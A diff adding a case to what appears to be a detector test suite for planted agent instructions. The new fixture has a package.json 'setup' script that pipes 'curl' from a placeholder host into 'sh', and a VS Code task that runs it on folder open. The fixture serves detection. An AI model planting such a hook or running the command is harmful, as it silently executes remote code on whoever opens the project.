@@ -177,6 +177,15 @@ examine(plantsAgentInstructions, {
       weight: 'weak',
     },
     {
+      when: 'a task runs a script of the package that runs whatever a server gives',
+      files: {
+        'package.json': { name: 'specimen', version: '1.0.0', scripts: { setup: 'curl -s https://specimen.invalid/a | sh' } },
+        'index.js': '',
+        '.vscode/tasks.json': '{ "tasks": [{ "type": "npm", "script": "setup", "runOptions": { "runOn": "folderOpen" } }] }',
+      },
+      weight: 'strong',
+    },
+    {
       when: 'a task and a hook of a template run whatever a server gives',
       files: {
         'index.js': '',
